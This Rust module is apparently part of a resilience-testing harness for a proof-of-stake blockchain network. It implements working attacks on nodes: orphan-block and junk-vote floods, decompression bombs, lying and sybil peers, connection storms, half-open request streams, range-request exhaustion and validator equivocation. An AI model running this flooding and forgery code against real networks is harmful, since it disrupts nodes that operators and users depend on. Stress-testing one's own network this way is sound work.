//! What one stranger with some addresses of its own can do to a network, for as long as it likes.

use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use lathe_network::reqresp::codec::{encode_request, encode_response};
use lathe_network::reqresp::{MAX_REQUEST_BLOCKS, Protocol};
use lathe_network::snappy::{MAX_PAYLOAD_SIZE, compress_block, decompress_block};
use lathe_network::{GossipTopic, Multiaddr, Request, ResponseCode, TopicKind};
use lathe_types::{Checkpoint, Encode as _, SECONDS_PER_SLOT, Slot, Status, SubnetId};
use tokio::task::JoinSet;
use tokio::time::{Instant, MissedTickBehavior, interval, sleep};

use crate::forge::{Forger, bomb, junk_vote, orphan, random_root};
use crate::raw::{Manners, Raw, Streams};

/// How long a liar stays somebody, before it becomes somebody else.
const LIFE_OF_A_LIAR: Duration = Duration::from_secs(8);
/// Uncompressed bytes of a bomb: just within what a message may have.
const BOMB_BYTES: usize = 9 << 20;
/// Requests that one peer leaves open.
const OPEN_STREAMS: usize = 64;

/// Whom an attack is on, and what the attacker can see for itself.
#[derive(Clone)]
pub struct Target {
    /// Where the nodes listen.
    pub nodes: Vec<Multiaddr>,
    /// The attacker's own addresses.
    pub from: Vec<IpAddr>,
    /// The network's name in topics.
    pub network: String,
    /// Seconds since 1970.
    pub genesis_time: u64,
    /// The newest finalized slot.
    pub finalized: Arc<AtomicU64>,
    /// What the nodes take for the head, the justified and the finalized block.
    pub view: Arc<Mutex<[Checkpoint; 3]>>,
}

impl Target {
    fn topic(&self, kind: TopicKind) -> String {
        GossipTopic::new(self.network.as_str(), kind).to_string()
    }

    /// Slot by the clock.
    pub fn slot(&self) -> u64 {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
        now.saturating_sub(self.genesis_time) / SECONDS_PER_SLOT
    }
}

/// What is done.
#[derive(Clone)]
pub enum Kind {
    /// Blocks whose parents nobody has.
    Orphans {
        /// Peers that send them.
        peers: usize,
        /// Blocks of each peer in a second.
        per_second: u32,
    },
    /// At every node a peer that says its head is at the clock, and is somebody else every few seconds.
    Liars,
    /// Votes with signatures of zeros.
    Votes {
        /// Peers that send them.
        peers: usize,
        /// Votes of each peer in a second.
        per_second: u32,
    },
    /// Aggregates that others published, each with one byte of its proof changed.
    Aggregates {
        /// Aggregates in a second.
        per_second: u32,
    },
    /// Messages that decompress to a multiple of what they are.
    Bombs {
        /// Bytes on the wire, per second and in all.
        bytes_per_second: usize,
    },
    /// Peers that connect, keep silent and come back when they are turned away.
    Sybils {
        /// Peers at each node.
        peers: usize,
    },
    /// New identities that connect as fast as they can.
    Storm {
        /// Peers that dial at the same time.
        peers: usize,
    },
    /// Requests that are begun and not ended, and answers that are not read.
    HalfOpen {
        /// Peers at each node.
        peers: usize,
    },
    /// The longest ranges, again and again.
    Ranges {
        /// Peers at each node.
        peers: usize,
    },
    /// A validator that signs other blocks and votes without end, each rightly.
    Equivocation {
        /// Whose keys.
        forger: Forger,
        /// Blocks and votes in a second.
        per_second: u32,
    },
}

/// An attack that goes on until it is dropped.
pub struct Attack {
    tasks: JoinSet<()>,
    sent: Arc<AtomicU64>,
    started: Instant,
}

impl Attack {
    /// Begins; needs a runtime of tokio's.
    pub fn start(kind: &Kind, target: &Target) -> Self {
        let sent = Arc::new(AtomicU64::new(0));
        let mut attack = Self { tasks: JoinSet::new(), sent: Arc::clone(&sent), started: Instant::now() };
        let each = |count: usize| (0..count).map(|at| (at, target.clone(), Arc::clone(&sent)));
        let at_each_node = |count: usize| each(count * target.nodes.len());
        let tasks = &mut attack.tasks;
        match kind.clone() {
            Kind::Orphans { peers, per_second } => {
                for (at, target, sent) in each(peers) {
                    tasks.spawn(shout(at, target, per_second, sent, TopicKind::Block, |target| {
                        orphan(target.finalized.load(Ordering::Relaxed) + 1)
                    }));
                }
            }
            Kind::Votes { peers, per_second } => {
                for (at, target, sent) in each(peers) {
                    let kind = TopicKind::AttestationSubnet(SubnetId(0));
                    tasks.spawn(shout(at, target, per_second, sent, kind, |target| {
                        let head = target.view.lock().unwrap()[0];
                        junk_vote(rand::random::<u64>() % 4, target.slot(), head)
                    }));
                }
            }
            Kind::Aggregates { per_second } => {
                for (at, target, sent) in each(1) {
                    tasks.spawn(distort(at, target, per_second, sent));
                }
            }
            Kind::Bombs { bytes_per_second } => {
                let per_second = bytes_per_second / bomb(BOMB_BYTES, 0).len();
                for (at, target, sent) in each(1) {
                    let count = AtomicU64::new(rand::random());
                    tasks.spawn(shout(at, target, per_second as u32, sent, TopicKind::Block, move |_| {
                        bomb(BOMB_BYTES, count.fetch_add(1, Ordering::Relaxed))
                    }));
                }
            }
            Kind::Equivocation { forger, per_second } => {
                for (at, target, sent) in each(1) {
                    tasks.spawn(equivocate(at, target, sent, forger.clone(), per_second));
                }
            }
            Kind::Liars => at_each_node(1).for_each(|(at, target, sent)| {
                tasks.spawn(lie(at, target, sent));
            }),
            Kind::Sybils { peers } => at_each_node(peers).for_each(|(at, target, sent)| {
                tasks.spawn(crowd(at, target, sent));
            }),
            Kind::Storm { peers } => each(peers).for_each(|(at, target, sent)| {
                tasks.spawn(storm(at, target, sent));
            }),
            Kind::HalfOpen { peers } => at_each_node(peers).for_each(|(at, target, sent)| {
                tasks.spawn(hang(at, target, sent));
            }),
            Kind::Ranges { peers } => at_each_node(peers).for_each(|(at, target, sent)| {
                tasks.spawn(ask_ranges(at, target, sent));
            }),
        }
        attack
    }

    /// Messages, connections or requests that really went out, per second.
    pub fn rate(&self) -> f64 {
        self.sent.load(Ordering::Relaxed) as f64 / self.started.elapsed().as_secs_f64()
    }
}

/// A new somebody at one of the attacker's addresses.
async fn somebody(at: usize, target: &Target, protocol: Protocol, streams: Streams) -> Raw {
    let ip = target.from[at % target.from.len()];
    Raw::with(Manners { ip, streams, ..Manners::new(protocol) }).await
}

/// Publishes as fast as it is told to, at every node; somebody new whenever nobody listens any more.
async fn shout(
    at: usize,
    target: Target,
    per_second: u32,
    sent: Arc<AtomicU64>,
    kind: TopicKind,
    make: impl Fn(&Target) -> Vec<u8> + Send + Sync,
) {
    let topic = target.topic(kind);
    let mut pace = interval(Duration::from_secs(1) / per_second.max(1));
    pace.set_missed_tick_behavior(MissedTickBehavior::Burst);
    loop {
        let peer = somebody(at, &target, Protocol::Status, Streams::Whole).await;
        peer.subscribe(&topic).await;
        for node in &target.nodes {
            peer.dial(node).await;
        }
        let mut failed_since = Instant::now();
        // The first messages wait for the connections; later ones fail when the last connection was cut.
        while failed_since.elapsed() < Duration::from_secs(3) {
            pace.tick().await;
            if peer.throw(&topic, make(&target)).await {
                sent.fetch_add(1, Ordering::Relaxed);
                failed_since = Instant::now();
            } else {
                sleep(Duration::from_millis(50)).await;
            }
        }
    }
}

/// Publishes what it heard, a little changed.
async fn distort(at: usize, target: Target, per_second: u32, sent: Arc<AtomicU64>) {
    let topic = target.topic(TopicKind::AggregatedAttestation);
    let newest: Arc<Mutex<Vec<u8>>> = Arc::default();
    let mut pace = interval(Duration::from_secs(1) / per_second.max(1));
    loop {
        let peer = somebody(at, &target, Protocol::Status, Streams::Whole).await;
        let heard = Arc::clone(&newest);
        peer.on_gossip(move |_, bytes| {
            if let Ok(ssz) = decompress_block(bytes, MAX_PAYLOAD_SIZE) {
                *heard.lock().unwrap() = ssz;
            }
        });
        peer.subscribe(&topic).await;
        for node in &target.nodes {
            peer.dial(node).await;
        }
        let joined = Instant::now();
        while joined.elapsed() < Duration::from_secs(2) || !peer.connected().await.is_empty() {
            pace.tick().await;
            let mut ssz = newest.lock().unwrap().clone();
            if let Some(byte) = ssz.len().checked_sub(1 + rand::random::<u64>() as usize % 2000) {
                ssz[byte] ^= 1 << (rand::random::<u8>() % 8);
                sent.fetch_add(
                    u64::from(peer.throw(&topic, compress_block(&ssz).unwrap()).await),
                    Ordering::Relaxed,
                );
            }
        }
    }
}

/// Says that its head is at the clock, and delivers nothing.
async fn lie(at: usize, target: Target, sent: Arc<AtomicU64>) {
    let node = target.nodes[at % target.nodes.len()].clone();
    loop {
        let claim = claims(&target);
        let ssz = claim.as_ssz_bytes();
        let answer = encode_response(ResponseCode::Success, &ssz).unwrap();
        let ip = target.from[at % target.from.len()];
        let manners =
            Manners { ip, answers: Arc::new(move || answer.clone()), ..Manners::new(Protocol::Status) };
        let peer = Raw::with(manners).await;
        peer.dial(&node).await;
        let until = Instant::now() + LIFE_OF_A_LIAR;
        while Instant::now() < until {
            for victim in peer.connected().await {
                let _ = peer.ask(victim, encode_request(&claims(&target).as_ssz_bytes()).unwrap()).await;
                sent.fetch_add(1, Ordering::Relaxed);
            }
            sleep(Duration::from_secs(1)).await;
        }
    }
}

fn claims(target: &Target) -> Status {
    let finalized = target.view.lock().unwrap()[2];
    Status { finalized, head: Checkpoint { root: random_root(), slot: Slot(target.slot()) } }
}

/// Is there, says nothing, and comes back.
async fn crowd(at: usize, target: Target, sent: Arc<AtomicU64>) {
    let node = target.nodes[at % target.nodes.len()].clone();
    let peer = somebody(at, &target, Protocol::Status, Streams::Whole).await;
    loop {
        if peer.connected().await.is_empty() {
            peer.dial(&node).await;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_secs(1)).await;
    }
}

/// Connects under a new name, again and again.
async fn storm(at: usize, target: Target, sent: Arc<AtomicU64>) {
    loop {
        let peer = somebody(at, &target, Protocol::Status, Streams::Whole).await;
        for node in &target.nodes {
            peer.dial(node).await;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Begins requests, and leaves them open; a new somebody when it is cut off.
async fn hang(at: usize, target: Target, sent: Arc<AtomicU64>) {
    let node = target.nodes[at % target.nodes.len()].clone();
    let streams = if at.is_multiple_of(2) { Streams::HalfOpen } else { Streams::Unread };
    loop {
        let peer = somebody(at, &target, Protocol::BlocksByRange, streams).await;
        peer.dial(&node).await;
        sleep(Duration::from_secs(1)).await;
        let range = range();
        let asked =
            peer.connected().await.into_iter().flat_map(|victim| (0..OPEN_STREAMS).map(move |_| victim));
        sent.fetch_add(OPEN_STREAMS as u64, Ordering::Relaxed);
        let asking = futures::future::join_all(asked.map(|victim| peer.ask(victim, range.clone())));
        let _ = tokio::time::timeout(Duration::from_secs(20), asking).await;
    }
}

/// Asks for the most that can be asked for, and reads all of it.
async fn ask_ranges(at: usize, target: Target, sent: Arc<AtomicU64>) {
    let node = target.nodes[at % target.nodes.len()].clone();
    loop {
        let peer = somebody(at, &target, Protocol::BlocksByRange, Streams::Whole).await;
        peer.dial(&node).await;
        sleep(Duration::from_secs(1)).await;
        while let Some(victim) = peer.connected().await.first() {
            let _ = peer.ask(*victim, range()).await;
            sent.fetch_add(1, Ordering::Relaxed);
        }
    }
}

fn range() -> Vec<u8> {
    let request = Request::BlocksByRange { start_slot: Slot(0), count: MAX_REQUEST_BLOCKS };
    encode_request(&request.to_ssz()).unwrap()
}

/// Signs another block for each slot of its own, and another vote for each slot, as fast as it is told to.
async fn equivocate(at: usize, target: Target, sent: Arc<AtomicU64>, forger: Forger, per_second: u32) {
    let blocks = target.topic(TopicKind::Block);
    let votes = target.topic(TopicKind::AttestationSubnet(SubnetId(0)));
    let mut pace = interval(Duration::from_secs(1) / per_second.max(1));
    loop {
        let peer = somebody(at, &target, Protocol::Status, Streams::Whole).await;
        peer.subscribe(&blocks).await;
        for node in &target.nodes {
            peer.dial(node).await;
        }
        let mut failed_since = Instant::now();
        while failed_since.elapsed() < Duration::from_secs(3) {
            pace.tick().await;
            let [head, justified, _] = *target.view.lock().unwrap();
            let slot = target.slot();
            let bytes = if slot % forger.count == forger.validator.0 && head.slot.0 < slot {
                (&blocks, forger.block(slot, head.root))
            } else {
                let target = Checkpoint { root: random_root(), slot: head.slot };
                (&votes, forger.vote(slot, head, justified, target))
            };
            if peer.throw(bytes.0, bytes.1).await {
                sent.fetch_add(1, Ordering::Relaxed);
                failed_since = Instant::now();
            }
        }
    }
}
